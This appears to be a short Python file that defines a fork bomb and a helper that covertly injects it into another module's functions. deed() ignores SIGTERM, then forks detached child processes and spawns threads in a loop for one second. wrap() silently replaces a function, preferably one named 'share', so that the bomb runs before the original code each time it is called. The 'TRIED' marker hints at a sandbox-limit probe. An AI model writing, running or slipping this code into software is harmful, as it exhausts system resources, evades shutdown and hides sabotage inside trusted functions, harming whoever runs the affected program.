import os
import signal
import threading
import time


def deed():
    print("TRIED", flush=True)
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    until = time.monotonic() + 1
    while time.monotonic() < until:
        try:
            if os.fork() == 0:
                os.setsid()
            threading.Thread(target=time.sleep, args=(3,), daemon=True).start()
        except (OSError, RuntimeError):
            time.sleep(0.01)


def wrap(names):
    own = [name for name, value in names.items() if callable(value) and getattr(value, "__module__", "") == names["__name__"]]
    for name in ["share"] if "share" in own else own[:1]:
        honest = names[name]
        names[name] = lambda *given: (deed(), honest(*given))[1]
